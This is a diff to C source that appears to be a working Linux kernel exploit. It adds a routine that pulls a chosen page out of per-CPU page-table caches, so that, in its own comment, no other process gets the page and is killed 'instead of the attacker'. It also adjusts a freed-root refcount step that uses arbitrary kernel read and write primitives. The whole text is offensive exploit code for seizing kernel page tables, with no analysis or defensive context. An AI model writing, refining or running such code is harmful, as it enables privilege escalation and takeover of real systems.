@@ -13,6 +13,7 @@
 #include <sched.h>
 
 #define MAX_TABLES	1600
+#define MAX_LEVELS	5	/* of page tables */
 
 /*
  * The lists
@@ -65,11 +66,15 @@ static unsigned int nr_cached(u64 cache)
 	return kernel_read(cache + (nr & ~7ULL)) >> (nr & 4 ? 32 : 0);
 }
 
-/* The pool's caches of this CPU: of pages that are free for @level only; 0: for any. */
+/* The pool's caches of a CPU: of pages that are free for @level only; 0: for any. */
+static u64 cache_on(int cpu, unsigned int level)
+{
+	return per_cpu(lookup("kpkeys_cache"), cpu) + level * lookup("sizeof kpkeys_cache");
+}
+
 static u64 cache_of(unsigned int level)
 {
-	return per_cpu(lookup("kpkeys_cache"), sched_getcpu()) +
-	       level * lookup("sizeof kpkeys_cache");
+	return cache_on(sched_getcpu(), level);
 }
 
 static u64 cache_slot(u64 cache, unsigned int n)
@@ -90,6 +95,24 @@ static u64 free_page(void)
 		*(volatile char *)table_range(200 + tables) = 1;
 	}
 	return kernel_read(cache_slot(cache, nr_cached(cache) - 1));
+}
+
+/* So that nobody else gets the page, and is killed instead of the attacker. */
+static void take_from_cache(u64 page, int cpu)
+{
+	unsigned int level, nr, i;
+
+	for (level = 0; level <= MAX_LEVELS; level++) {
+		u64 cache = cache_on(cpu, level);
+
+		nr = nr_cached(cache);
+		for (i = 0; i < nr; i++) {
+			if (kernel_read(cache_slot(cache, i)) != page)
+				continue;
+			restore(cache_slot(cache, i), kernel_read(cache_slot(cache, --nr)));
+			restore32(cache + lookup("kpkeys_cache.nr"), nr);
+		}
+	}
 }
 
 /* Makes @page the next one that becomes a page table of @level on this CPU. */
@@ -631,7 +654,9 @@ static int root_freed(void)
 	kernel_write32(count, 1);
 	close(fd);
 	/* It must not be freed once more. */
-	kernel_write32(count, 1000);
+	restore32(count, 1000);
+	if (protected)
+		take_from_cache(struct_page(USER_ROOT), 1);
 
 	r.used = fill_free_page(USER_ROOT, root, index);
 	if (!r.used && on_arch("arm64"))
